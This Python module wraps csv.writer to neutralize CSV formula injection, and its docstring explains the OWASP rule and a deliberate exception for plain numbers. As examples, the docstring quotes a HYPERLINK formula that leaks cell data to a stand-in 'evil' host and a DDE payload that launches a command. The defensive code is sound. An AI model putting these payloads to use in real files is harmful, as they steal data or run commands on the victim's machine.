"""Every CSV the service writes goes through `writer`: its cells cannot be read as formulas.

CSV formula injection (OWASP, "CSV Injection"): a spreadsheet opening the file evaluates a cell
that starts with `=`, `+`, `-` or `@` (and, in some, one starting with a tab or a carriage
return) as a formula, so a provider named `=HYPERLINK("http://evil/?"&A1, "Click")` would run
in finance's spreadsheet. OWASP's rule: prefix such a cell with a single quote, which every
spreadsheet shows as text and does not evaluate.

One refinement, taken deliberately: a cell that is a plain decimal number (`-5.00`, `+3`, `12`)
is left as it is. Spreadsheets read it as a number, not a formula, and a number cannot call
anything; quoting it would turn every negative amount (a credit, a clawback) into text, which
finance would have to convert back before adding it up. "Plain" is strict: an optional sign,
ASCII digits, an optional dot and digits, and nothing else, so `-1+cmd|' /C calc'!A0`,
`-2e3`, `- 5` and `-5,00` are all neutralized."""
from __future__ import annotations

import csv
import re
from typing import Any, Iterable

#: What a spreadsheet may take as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def neutralize(cell: Any) -> Any:
    """The cell as it may be written: text that could start a formula gets a leading `'`;
    anything else (numbers, plain decimal strings, other text) is unchanged."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


class _SafeWriter:
    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralize(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> _SafeWriter:
    """`csv.writer(out, **options)` whose every cell is `neutralize`d."""
    return _SafeWriter(out, **options)
